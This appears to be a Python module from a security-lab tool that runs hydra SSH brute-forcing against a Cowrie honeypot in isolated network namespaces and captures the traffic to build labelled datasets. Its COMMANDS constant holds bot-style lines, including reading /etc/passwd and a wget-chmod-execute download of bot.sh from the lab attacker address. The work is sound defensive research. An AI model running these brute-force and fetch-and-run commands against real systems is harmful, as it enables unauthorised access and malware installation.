"""Traffic recorded at a Cowrie sensor: Cowrie where the lab's sshd would be, attacked by
the lab's own tools, the bridge captured with tcpdump.

The lab's network (:mod:`threatmesh.sensors.netns`) is built with two hosts, the server
(10.99.0.10) and the attacker (10.99.0.66), so the flows look like the lab's from the
attacker's side: same addresses, port 22, the same hydra command line as the lab plans'
SSH-Patator step. The server runs a honeypot (``serve``: in practice ``threatmesh
honeynet run``, which starts Cowrie as an unprivileged user; only the server's namespace
lets unprivileged processes bind port 22). Nobody but the attacker talks to it, as nobody
has business with a honeypot.

Each round is what a brute-forcing bot does: hydra over the lab's password list (Cowrie's
user database accepts one password near the list's end, so the attempts fail as they do
against the lab's sshd: hydra, stopped after ``limit`` seconds, does not reach it), then
logins with that password that run commands, as OpenSSH's client does them (the
password given by ``SSH_ASKPASS``). The labels are not
decided here: they come from Cowrie's own log (``threatmesh honeynet schedule``).
"""

from __future__ import annotations

import os
import random
import shutil
import subprocess
import tempfile
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

from threatmesh.sensors import lab_hosts, netns
from threatmesh.sensors.netns import LabError, Topology, network, run

__all__ = ["COMMANDS", "PASSWORD", "CowrieCapture", "record_cowrie"]

HOSTS = {"server": lab_hosts.SERVER, "attacker": lab_hosts.HOSTS["attacker"]}
#: The one password Cowrie accepts for root: in the lab's list, near its end.
PASSWORD = "letmein45"
#: What each login runs: a bot's usual survey, then a download it cannot make (Cowrie's
#: wget refuses private addresses; the attempt is logged all the same).
COMMANDS = (
    "uname -a; cat /proc/cpuinfo | grep name | head -1; free -m; w",
    "cat /etc/passwd; ls -la /tmp; ps aux",
    "cd /tmp; wget http://10.99.0.66/bot.sh; chmod +x bot.sh; ./bot.sh",
)
HYDRA = ["-l", "root", "-P", "{work}/passwords.txt", "-t", "6", "-w", "5", "-I"]
Progress = Callable[[str], None]


@dataclass(frozen=True)
class CowrieCapture:
    """What a recording left: the capture, Cowrie's JSON log, and its rounds' times."""

    pcap: Path
    log: Path
    rounds: tuple[tuple[float, float], ...]


def _ssh_argv() -> list[str]:
    return [
        "ssh",
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "PreferredAuthentications=password",
        "-o",
        "PubkeyAuthentication=no",
        "-o",
        "NumberOfPasswordPrompts=1",
        "-o",
        "ConnectTimeout=5",
        f"root@{lab_hosts.SERVER}",
    ]


def _askpass(work: Path) -> dict[str, str]:
    script = work / "askpass.sh"
    script.write_text(f"#!/bin/sh\necho {PASSWORD}\n")
    script.chmod(0o755)
    return {
        **os.environ,
        "SSH_ASKPASS": str(script),
        "SSH_ASKPASS_REQUIRE": "force",
        "DISPLAY": ":0",
    }


def _attack(topo: Topology, argv: list[str], work: Path, limit: float, env: dict[str, str]) -> None:
    try:
        subprocess.run(
            topo.exec_argv("attacker", ["timeout", str(limit), *argv]),
            capture_output=True,
            timeout=limit + 30.0,
            check=False,
            cwd=work,  # hydra writes hydra.restore into its cwd
            env=env,
        )
    except subprocess.TimeoutExpired:
        pass


def _round(topo: Topology, work: Path, limit: float) -> tuple[float, float]:
    start = time.time()
    hydra = [a.replace("{work}", str(work)) for a in HYDRA]
    _attack(topo, ["hydra", *hydra, f"ssh://{lab_hosts.SERVER}"], work, limit, dict(os.environ))
    env = _askpass(work)
    for command in COMMANDS:
        time.sleep(1.0)
        _attack(topo, [*_ssh_argv(), command], work, 30.0, env)
    return start, time.time()


def _wait_ready(
    cowrie_out: Path, process: subprocess.Popen[bytes], said: Path, timeout: float = 90.0
) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if process.poll() is not None:
            tail = said.read_text(errors="replace").strip()[-300:]
            raise LabError(f"the honeypot exited at start: {tail}")
        text = cowrie_out.read_text(errors="replace") if cowrie_out.exists() else ""
        if "Ready to accept SSH connections" in text:
            return
        time.sleep(0.5)
    raise LabError(f"the honeypot did not listen within {timeout:.0f} s")


def _stop(process: subprocess.Popen[bytes]) -> None:
    if process.poll() is None:
        process.terminate()
    try:
        process.wait(timeout=30)
    except subprocess.TimeoutExpired:
        process.kill()


def _record_in(
    topo: Topology, serve: Sequence[str], home: Path, work: Path, pcap: Path, rounds: int,
    limit: float, progress: Progress,
) -> list[tuple[float, float]]:  # fmt: skip
    # Port 22 for an unprivileged Cowrie, in the server's namespace only.
    server = topo.ns("server")
    run(["ip", "netns", "exec", server, "sysctl", "-qw", "net.ipv4.ip_unprivileged_port_start=22"])
    with (work / "honeynet.out").open("ab") as log:
        honeypot = subprocess.Popen(topo.exec_argv("server", list(serve)), stdout=log, stderr=log)
    capture = netns.capture(topo, pcap, work)
    try:
        _wait_ready(home / "cowrie.out", honeypot, work / "honeynet.out")
        time.sleep(1.0)  # tcpdump opens the bridge
        times = []
        for i in range(rounds):
            progress(f"cowrie: round {i + 1} of {rounds}: hydra, then {len(COMMANDS)} logins")
            times.append(_round(topo, work, limit))
            time.sleep(3.0)
        return times
    finally:
        _stop(capture)
        _stop(honeypot)


def record_cowrie(
    serve: Callable[[Path], Sequence[str]],
    out: Path,
    *,
    rounds: int = 2,
    limit: float = 40.0,
    seed: int = 1,
    progress: Progress = lambda _: None,
) -> CowrieCapture:
    """Record ``rounds`` attack rounds at a honeypot served by ``serve(home)`` (argv run
    in the server's namespace, listening on the server's port 22 and writing Cowrie's
    log under ``home``); write ``<out>/cowrie-ssh.pcap`` and ``<out>/cowrie.json``."""
    if os.geteuid() != 0:
        raise LabError("the lab needs root (network namespaces, raw sockets)")
    lab_hosts.require_tools()
    out.mkdir(parents=True, exist_ok=True)
    pcap = (out / "cowrie-ssh.pcap").resolve()
    work = Path(tempfile.mkdtemp(prefix="tmlab-cowrie-"))
    work.chmod(0o755)
    home = work / "cowrie"
    (home / "etc").mkdir(parents=True)
    (home / "etc" / "userdb.txt").write_text(f"root:x:{PASSWORD}\n", encoding="ascii")
    try:
        lab_hosts.prepare(work, random.Random(seed))
        with network(HOSTS) as topo:
            times = _record_in(topo, serve(home), home, work, pcap, rounds, limit, progress)
        log = out / "cowrie.json"
        shutil.copyfile(home / "var" / "log" / "cowrie" / "cowrie.json", log)
        shutil.copyfile(home / "cowrie.out", out / "cowrie.out")
    finally:
        shutil.rmtree(work, ignore_errors=True)
    return CowrieCapture(pcap=pcap, log=log, rounds=tuple(times))
